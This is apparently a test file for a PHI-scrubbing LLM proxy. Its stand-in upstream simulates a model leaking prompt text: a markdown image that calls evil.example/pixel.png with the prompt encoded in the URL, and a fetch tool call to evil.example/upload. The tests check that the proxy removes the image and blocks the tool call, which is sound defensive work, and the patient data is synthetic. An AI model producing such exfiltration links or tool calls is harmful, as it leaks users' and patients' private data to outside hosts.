/**
 * `veil llm-proxy` against a stand-in upstream on loopback that records what it receives and echoes the last
 * user message (or answers with an exfiltration attempt or a tool call when asked to). Proves: no labelled PHI
 * value reaches the upstream; hard negatives arrive unchanged; the caller gets the echo back with the original
 * values restored, streamed in 1-5 character chunks and not streamed, for Chat Completions and Responses;
 * markdown-image exfiltration is neutralised; tool calls carrying PHI to unlisted hosts are blocked; audit lines
 * hold counts and no text; the Authorization header passes unless the config holds an upstream key. Each test runs
 * with the request scrub in worker threads (the default) and in-process (scrubWorkers 0).
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join, resolve } from 'node:path';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { parseLlmProxyConfig } from '../src/llm/config.ts';
import { createLlmProxy } from '../src/llm/proxy.ts';
import { readText } from './llm-proxy-support.ts';

const key = new Uint8Array(32).map((_, i) => (i * 37 + 11) & 255);

/** Prompts with every value we label as PHI listed beside them; hard negatives are in the text too. */
const CASES: { text: string; phi: string[] }[] = [
  {
    text: "Patient John Smith (MRN 4412889) is a 34-year-old with Parkinson's disease in Room 4. Seen by Dr. Ana Ortiz on 03/04/2021.",
    phi: ['John Smith', 'Smith', '4412889', 'Ana Ortiz', 'Ortiz', '03/04/2021'],
  },
  {
    text: 'Summarise: Mrs. Kowalczyk, DOB 1948-02-17, phone 617-555-0199, email m.kowalczyk@mailbox.example.org, lives at 1668 Glyn St, Springfield, IL 62704.',
    phi: ['Kowalczyk', '1948-02-17', '617-555-0199', 'm.kowalczyk@mailbox.example.org', '1668 Glyn St', '62704'],
  },
  {
    text: 'The 93-year-old was transferred from Massachusetts General Hospital on March 3rd, 2020; SSN 123-45-6789; card 4111 1111 1111 1111.',
    phi: ['93', 'Massachusetts General Hospital', 'March 3rd, 2020', '123-45-6789', '4111 1111 1111 1111'],
  },
  {
    text: 'Tool output: {"patient":"Jildau S Bouts","ip":"172.61.42.192","iban":"GB82 WEST 1234 5698 7654 32"} - explain the Crohn disease flare.',
    phi: ['Jildau S Bouts', 'Bouts', '172.61.42.192', 'GB82 WEST 1234 5698 7654 32'],
  },
];
const HARD_NEGATIVES = ['34-year-old', "Parkinson's disease", 'Room 4', 'Crohn disease'];

interface Seen {
  path: string;
  auth: string | undefined;
  body: string;
}

let upstream: Server;
let upstreamUrl: string;
const seen: Seen[] = [];

/** Deterministic chunk sizes 1-5. */
function chunks(text: string, seed: number): string[] {
  const out: string[] = [];
  let x = seed;
  for (let i = 0; i < text.length; ) {
    x = (x * 1103515245 + 12345) & 0x7fffffff;
    const n = 1 + (x % 5);
    out.push(text.slice(i, i + n));
    i += n;
  }
  return out;
}

function answerFor(last: string): { text: string; toolUrl?: string } {
  if (last.includes('exfil-now'))
    return { text: `Sure. ![status](https://evil.example/pixel.png?d=${encodeURIComponent(last)}) done` };
  if (last.includes('tool-evil')) return { text: '', toolUrl: 'https://evil.example/upload' };
  if (last.includes('tool-ok')) return { text: '', toolUrl: 'https://tools.example/lookup' };
  return { text: last };
}

before(async () => {
  upstream = createServer(async (req, res) => {
    const body = await readText(req);
    seen.push({ path: req.url ?? '', auth: req.headers.authorization, body });
    if (req.url === '/v1/models') {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ object: 'list', data: [{ id: 'stand-in', object: 'model' }] }));
      return;
    }
    const json = JSON.parse(body) as Record<string, unknown>;
    let last = '';
    if (req.url === '/v1/chat/completions') {
      const msgs = json.messages as { role: string; content: string | { text?: string }[] }[];
      const c = [...msgs].reverse().find((m) => m.role === 'user')!.content;
      last = typeof c === 'string' ? c : c.map((p) => p.text ?? '').join('');
    } else {
      last = typeof json.input === 'string' ? json.input : '';
    }
    const a = answerFor(last);
    const args = a.toolUrl ? JSON.stringify({ url: a.toolUrl, note: last }) : undefined;
    if (req.url === '/v1/chat/completions' && json.stream !== true) {
      const message: Record<string, unknown> = { role: 'assistant', content: a.toolUrl ? null : a.text };
      if (args) message.tool_calls = [{ id: 'call_1', type: 'function', function: { name: 'fetch', arguments: args } }];
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(
        JSON.stringify({
          id: 'c1',
          object: 'chat.completion',
          choices: [{ index: 0, message, finish_reason: 'stop' }],
        }),
      );
      return;
    }
    if (req.url === '/v1/chat/completions') {
      res.writeHead(200, { 'content-type': 'text/event-stream' });
      const send = (o: unknown) => res.write(`data: ${JSON.stringify(o)}\n\n`);
      send({
        id: 'c1',
        object: 'chat.completion.chunk',
        choices: [{ index: 0, delta: { role: 'assistant', content: '' }, finish_reason: null }],
      });
      for (const c of chunks(a.text, last.length)) {
        send({
          id: 'c1',
          object: 'chat.completion.chunk',
          choices: [{ index: 0, delta: { content: c }, finish_reason: null }],
        });
      }
      if (args) {
        for (const [i, c] of chunks(args, 7).entries()) {
          const tc =
            i === 0
              ? { index: 0, id: 'call_1', type: 'function', function: { name: 'fetch', arguments: c } }
              : { index: 0, function: { arguments: c } };
          send({
            id: 'c1',
            object: 'chat.completion.chunk',
            choices: [{ index: 0, delta: { tool_calls: [tc] }, finish_reason: null }],
          });
        }
      }
      send({
        id: 'c1',
        object: 'chat.completion.chunk',
        choices: [{ index: 0, delta: {}, finish_reason: args ? 'tool_calls' : 'stop' }],
      });
      res.end('data: [DONE]\n\n');
      return;
    }
    // /v1/responses
    if (json.stream !== true) {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(
        JSON.stringify({
          id: 'r1',
          object: 'response',
          output: [{ type: 'message', id: 'm1', role: 'assistant', content: [{ type: 'output_text', text: a.text }] }],
        }),
      );
      return;
    }
    res.writeHead(200, { 'content-type': 'text/event-stream' });
    const ev = (name: string, o: Record<string, unknown>) =>
      res.write(`event: ${name}\ndata: ${JSON.stringify({ type: name, ...o })}\n\n`);
    for (const c of chunks(a.text, 3))
      ev('response.output_text.delta', { item_id: 'm1', output_index: 0, content_index: 0, delta: c });
    ev('response.output_text.done', { item_id: 'm1', output_index: 0, content_index: 0, text: a.text });
    ev('response.completed', {
      response: { id: 'r1', output: [{ type: 'message', id: 'm1', content: [{ type: 'output_text', text: a.text }] }] },
    });
    res.end();
  });
  upstream.keepAliveTimeout = 60_000; // a loaded machine must not close pooled sockets between requests
  await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', r));
  upstreamUrl = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`;
});
after(() => upstream.close());

/** Runs `fn` against a proxy that scrubs in its default pool of worker threads, then against one that scrubs
 * in-process (scrubWorkers 0): both must behave the same. */
async function withProxy(configRaw: object, fn: (base: string, audit: string[]) => Promise<void>): Promise<void> {
  for (const scrubWorkers of [undefined, 0]) {
    const audit: string[] = [];
    const proxy = createLlmProxy({
      upstream: upstreamUrl,
      key,
      config: parseLlmProxyConfig(scrubWorkers === undefined ? configRaw : { ...configRaw, scrubWorkers }),
      audit: (l) => audit.push(l),
    });
    await new Promise<void>((r) => proxy.listen(0, '127.0.0.1', r));
    try {
      await fn(`http://127.0.0.1:${(proxy.address() as AddressInfo).port}`, audit);
    } finally {
      await new Promise<void>((r) => proxy.close(() => r()));
    }
  }
}

async function post(
  base: string,
  path: string,
  body: unknown,
  headers: Record<string, string> = {},
): Promise<{ status: number; text: string }> {
  const r = await fetch(`${base}${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: 'Bearer caller-token', ...headers },
    body: JSON.stringify(body),
  });
  return { status: r.status, text: await r.text() };
}

interface SseData {
  type?: string;
  delta?: string;
  choices?: { delta?: { content?: string | null; tool_calls?: { function?: { arguments?: string } }[] } }[];
}

/** The text of an SSE answer: chat deltas or Responses output_text deltas, concatenated. */
function sseText(raw: string): { text: string; toolArgs: string } {
  let text = '';
  let toolArgs = '';
  for (const block of raw.split('\n\n')) {
    const data = block
      .split('\n')
      .find((l) => l.startsWith('data: '))
      ?.slice(6);
    if (!data || data === '[DONE]') continue;
    const o = JSON.parse(data) as SseData;
    if (o.type === 'response.output_text.delta') text += o.delta ?? '';
    for (const c of o.choices ?? []) {
      if (typeof c.delta?.content === 'string') text += c.delta.content;
      for (const tc of c.delta?.tool_calls ?? []) toolArgs += tc.function?.arguments ?? '';
    }
  }
  return { text, toolArgs };
}

/**
 * The echo is the original text, except what the proxy deliberately does not restore: an age over 89 stays
 * "90" (restoring would turn every "90" of an answer into the age) and a two-letter state code stays its
 * surrogate (too short to find safely).
 */
function assertEcho(actual: string, original: string): void {
  const pattern = original
    .replace(/[.*+?^${}()|[\]\\]/g, '\\$&')
    .replace(/\b9\d(?=-year-old)/g, '90')
    .replace(/, IL /g, ', [A-Z]{2} ');
  assert.match(actual, new RegExp(`^${pattern}$`));
  if (!/\b9\d-year-old|, IL /.test(original)) assert.equal(actual, original);
}

function assertNoPhiUpstream(from: number): void {
  const received = seen
    .slice(from)
    .map((s) => s.body)
    .join('\n');
  for (const c of CASES)
    for (const v of c.phi)
      assert.ok(!received.includes(v), `a labelled value reached the upstream (${v.length} chars)`);
  for (const n of HARD_NEGATIVES) assert.ok(received.includes(n), `hard negative changed: ${n}`);
}

test('chat completions, not streamed: nothing labelled reaches the upstream; the echo comes back restored', async () => {
  await withProxy({}, async (base, audit) => {
    const from = seen.length;
    for (const c of CASES) {
      const r = await post(base, '/v1/chat/completions', {
        model: 'stand-in',
        messages: [
          { role: 'system', content: 'You are careful.' },
          { role: 'user', content: c.text },
        ],
      });
      assert.equal(r.status, 200);
      assertEcho(JSON.parse(r.text).choices[0].message.content, c.text);
    }
    assertNoPhiUpstream(from);
    assert.equal(seen.at(-1)!.auth, 'Bearer caller-token', "the caller's Authorization goes upstream unchanged");
    assert.equal(audit.length, CASES.length);
    for (const line of audit) {
      const a = JSON.parse(line);
      assert.equal(a.decision, 'forwarded');
      assert.equal(a.model, 'stand-in');
      assert.ok(Object.values(a.phi as Record<string, number>).reduce((x, y) => x + y, 0) >= 3);
      assert.deepEqual(Object.keys(a).sort(), [
        'blockedToolCalls',
        'caller',
        'decision',
        'model',
        'ms',
        'neutralised',
        'phi',
        'restored',
        'route',
        'status',
        'stream',
        'time',
      ]);
      // Numbers such as "93" also occur in durations and counts: look for the longer values only.
      for (const c of CASES)
        for (const v of c.phi) if (v.length >= 4) assert.ok(!line.includes(v), 'audit line holds a value');
    }
  });
});

test('chat completions, streamed in 1-5 character chunks: surrogates split across chunks are restored', async () => {
  await withProxy({}, async (base) => {
    const from = seen.length;
    for (const c of CASES) {
      const r = await post(base, '/v1/chat/completions', {
        model: 'stand-in',
        stream: true,
        messages: [{ role: 'user', content: c.text }],
      });
      assert.equal(r.status, 200);
      assertEcho(sseText(r.text).text, c.text);
    }
    assertNoPhiUpstream(from);
  });
});

test('responses API, streamed and not: input scrubbed, answer restored', async () => {
  await withProxy({}, async (base) => {
    const from = seen.length;
    for (const c of CASES) {
      const plain = await post(base, '/v1/responses', {
        model: 'stand-in',
        input: c.text,
        instructions: 'Be brief, Dr. Ana Ortiz asks.',
      });
      assertEcho(JSON.parse(plain.text).output[0].content[0].text, c.text);
      const streamed = await post(base, '/v1/responses', { model: 'stand-in', input: c.text, stream: true });
      assertEcho(sseText(streamed.text).text, c.text);
      const completed = streamed.text.split('\n\n').find((b) => b.startsWith('event: response.completed'))!;
      const final = JSON.parse(completed.split('\n')[1]!.slice(6)) as {
        response: { output: { content: { text: string }[] }[] };
      };
      assertEcho(final.response.output[0]!.content[0]!.text, c.text);
    }
    assertNoPhiUpstream(from);
  });
});

test('every model-visible text is scrubbed: system, content parts, tool results, earlier tool calls, input items', async () => {
  await withProxy({}, async (base) => {
    const from = seen.length;
    const [a, b, c, d] = CASES.map((x) => x.text) as [string, string, string, string];
    const chat = await post(base, '/v1/chat/completions', {
      model: 'm',
      messages: [
        { role: 'system', content: a },
        {
          role: 'assistant',
          content: null,
          tool_calls: [
            { id: 't1', type: 'function', function: { name: 'lookup', arguments: JSON.stringify({ q: b }) } },
          ],
        },
        { role: 'tool', tool_call_id: 't1', content: c },
        {
          role: 'user',
          content: [
            { type: 'text', text: d },
            { type: 'image_url', image_url: { url: 'https://pacs.example/img.png' } },
          ],
        },
      ],
    });
    assertEcho(JSON.parse(chat.text).choices[0].message.content, d);
    const resp = await post(base, '/v1/responses', {
      model: 'm',
      instructions: a,
      input: [
        { role: 'user', content: [{ type: 'input_text', text: b }] },
        { type: 'function_call', call_id: 'c1', name: 'lookup', arguments: JSON.stringify({ q: c }) },
        { type: 'function_call_output', call_id: 'c1', output: d },
      ],
    });
    assert.equal(resp.status, 200);
    assertNoPhiUpstream(from);
    assert.ok(seen.at(-2)!.body.includes('https://pacs.example/img.png'), 'structure (image URLs) is left alone');
  });
});

test('dates shift per patient header, else per caller; the same caller gets the same surrogates every time', async () => {
  await withProxy({}, async (base) => {
    const msg = { model: 'm', messages: [{ role: 'user', content: 'Seen on 03/04/2021 by Dr. Ana Ortiz.' }] };
    const sent = async (headers: Record<string, string>) => {
      await post(base, '/v1/chat/completions', msg, headers);
      return seen.at(-1)!.body;
    };
    const a1 = await sent({ authorization: 'Bearer alice' });
    const a2 = await sent({ authorization: 'Bearer alice' });
    const b = await sent({ authorization: 'Bearer bob' });
    const p1 = await sent({ authorization: 'Bearer alice', 'x-veil-patient-key': 'MRN-1' });
    const p2 = await sent({ authorization: 'Bearer bob', 'x-veil-patient-key': 'MRN-1' });
    const date = (body: string) => /Seen on ([^ ]+) by/.exec(body)![1];
    assert.equal(a1, a2);
    assert.notEqual(date(a1), date(b));
    assert.equal(date(p1), date(p2));
    assert.ok(!p1.includes('x-veil-patient-key') && !p1.includes('03/04/2021'));
  });
});

test('markdown-image exfiltration in an answer is neutralised, streamed and not', async () => {
  await withProxy({}, async (base, audit) => {
    const msg = `exfil-now ${CASES[0]!.text}`;
    const plain = JSON.parse(
      (await post(base, '/v1/chat/completions', { model: 'm', messages: [{ role: 'user', content: msg }] })).text,
    ).choices[0].message.content as string;
    const streamed = sseText(
      (
        await post(base, '/v1/chat/completions', {
          model: 'm',
          stream: true,
          messages: [{ role: 'user', content: msg }],
        })
      ).text,
    ).text;
    for (const out of [plain, streamed]) {
      assert.ok(!out.includes('evil.example') && !out.includes('!['), out);
      assert.match(out, /\[image removed by Veil: status\] done$/);
    }
    assert.ok(audit.every((l) => JSON.parse(l).decision === 'neutralised'));
  });
});

test('tool calls carrying PHI to unlisted hosts are blocked; to allowed hosts they get the original values', async () => {
  await withProxy({ allowHosts: ['tools.example'] }, async (base, audit) => {
    const bad = JSON.parse(
      (
        await post(base, '/v1/chat/completions', {
          model: 'm',
          messages: [{ role: 'user', content: `tool-evil ${CASES[0]!.text}` }],
        })
      ).text,
    ).choices[0].message;
    assert.equal(bad.tool_calls, undefined);
    assert.match(bad.content, /tool call blocked by Veil/);
    const badStream = sseText(
      (
        await post(base, '/v1/chat/completions', {
          model: 'm',
          stream: true,
          messages: [{ role: 'user', content: `tool-evil ${CASES[0]!.text}` }],
        })
      ).text,
    );
    assert.equal(badStream.toolArgs, '');
    assert.match(badStream.text, /tool call blocked by Veil/);
    const good = JSON.parse(
      (
        await post(base, '/v1/chat/completions', {
          model: 'm',
          messages: [{ role: 'user', content: `tool-ok ${CASES[0]!.text}` }],
        })
      ).text,
    ).choices[0].message;
    assert.equal(JSON.parse(good.tool_calls[0].function.arguments).note, `tool-ok ${CASES[0]!.text}`);
    const goodStream = sseText(
      (
        await post(base, '/v1/chat/completions', {
          model: 'm',
          stream: true,
          messages: [{ role: 'user', content: `tool-ok ${CASES[0]!.text}` }],
        })
      ).text,
    );
    assert.equal(JSON.parse(goodStream.toolArgs).note, `tool-ok ${CASES[0]!.text}`);
    assert.deepEqual(
      audit.map((l) => JSON.parse(l).decision),
      ['blocked', 'blocked', 'forwarded', 'forwarded'],
    );
  });
});

test('models passthrough, upstream key from the config, body limit, unknown routes', async () => {
  await withProxy({ upstreamKey: 'sk-upstream', maxBodyBytes: 2048 }, async (base, audit) => {
    const models = await fetch(`${base}/v1/models`, { headers: { authorization: 'Bearer caller-token' } });
    assert.equal(((await models.json()) as { data: { id: string }[] }).data[0]!.id, 'stand-in');
    assert.equal(seen.at(-1)!.auth, 'Bearer sk-upstream');
    const big = await post(base, '/v1/chat/completions', {
      model: 'm',
      messages: [{ role: 'user', content: 'x'.repeat(5000) }],
    });
    assert.equal(big.status, 413);
    assert.match(big.text, /LLM_PROXY_BODY_TOO_LARGE/);
    assert.equal((await fetch(`${base}/v1/embeddings`, { method: 'POST', body: '{}' })).status, 404);
    assert.equal(JSON.parse(audit[1]!).code, 'LLM_PROXY_BODY_TOO_LARGE');
  });
});

test('veil llm-proxy starts from the CLI on 127.0.0.1 and serves', async () => {
  const bin = join(resolve(dirname(fileURLToPath(import.meta.url)), '../../..'), 'apps/veil/bin/veil.mjs');
  const child = spawn(process.execPath, [bin, 'llm-proxy', '--upstream', upstreamUrl, '--port', '0'], {
    env: { ...process.env, VEIL_KEY: Buffer.from(key).toString('base64') },
    stdio: ['ignore', 'ignore', 'pipe'],
  });
  try {
    const port = await new Promise<number>((res, rej) => {
      let err = '';
      child.stderr.on('data', (d: Buffer) => {
        err += d.toString();
        const m = /listening on http:\/\/127\.0\.0\.1:(\d+)\/v1/.exec(err);
        if (m) res(Number(m[1]));
      });
      child.once('exit', () => rej(new Error(`exited: ${err}`)));
    });
    const r = await post(`http://127.0.0.1:${port}`, '/v1/chat/completions', {
      model: 'm',
      messages: [{ role: 'user', content: CASES[1]!.text }],
    });
    assertEcho(JSON.parse(r.text).choices[0].message.content, CASES[1]!.text);
  } finally {
    child.kill('SIGTERM');
  }
});
